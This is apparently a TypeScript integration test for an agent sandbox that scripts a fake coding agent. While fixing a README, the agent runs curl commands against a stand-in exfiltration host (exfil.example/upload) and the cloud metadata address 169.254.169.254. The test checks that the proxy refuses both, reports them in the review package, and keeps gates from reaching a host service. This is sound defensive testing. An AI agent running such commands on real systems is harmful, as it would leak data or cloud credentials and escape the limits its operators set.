import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { afterEach, describe, expect, it } from "vitest";
import { createFakeClaude } from "../../dev/fake-agent.ts";
import { DELIVERY_ROUTES, fakeHelloWorld, useIntegrationContext } from "../support/integration.ts";
import { createHarness, deliverLabeled } from "../support/lisa-harness.ts";

const context = useIntegrationContext();

/** An HTTP service on the host's loopback, counting who reaches it: what a gate must not. */
async function hostService() {
  let hits = 0;
  const server = createServer((_request, response) => {
    hits += 1;
    response.end("host service\n");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { port: (server.address() as AddressInfo).port, hits: () => hits, close: () => server.close() };
}

let service: Awaited<ReturnType<typeof hostService>> | undefined;
afterEach(() => service?.close());

describe("the network of agents and gates", () => {
  it("refuses what the agent reaches for beyond its allowlist, says so in the review package, and gives gates none", async () => {
    service = await hostService();
    const agent = createFakeClaude([
      {
        write: { "README.md": "# Hello World\n" },
        run: [
          // Through Lisa's proxy (the curl in the sandbox reads its variables): refused and counted.
          "curl -s -m 5 https://exfil.example/upload -o /dev/null || true",
          "curl -s -m 5 http://169.254.169.254/latest/meta-data/ -o /dev/null || true",
        ],
        manifest: { title: "Fix the README heading", what: "Spells World correctly.", testing: "Checked by eye." },
        result: "Fixed.",
      },
    ]);
    // The second gate passes only if the host's service cannot be reached from the gate.
    const gates = `gates:\n  - grep -q 'Hello World' README.md\n  - "! curl -s -m 3 http://127.0.0.1:${service.port}/"\n`;
    const github = fakeHelloWorld({
      config: `label: bug\nsandbox:\n  allow_hosts: [registry.npmjs.org]\n${gates}`,
      routes: [...DELIVERY_ROUTES],
    });
    const harness = context.use(createHarness({ remoteRoot: context.remoteRoot, claudeBinary: agent.binary }));
    await harness.lisa.start();

    await deliverLabeled(harness);

    expect(github.state.pulls).toHaveLength(1);
    expect(service.hits()).toBe(0);
    const pack = github.state.comments.find((c) => c.body.includes("<!-- lisa:pass run=1 pass=1 "))?.body;
    expect(pack).toContain(
      "**Network:** 2 connections refused by Lisa's sandbox (hosts `exfil.example:443`, `169.254.169.254:80`)",
    );
    // The agent was told the proxy, not the host's own.
    expect(agent.calls()[0]?.env.HTTPS_PROXY).toBe("http://127.0.0.1:3128");
  });
});
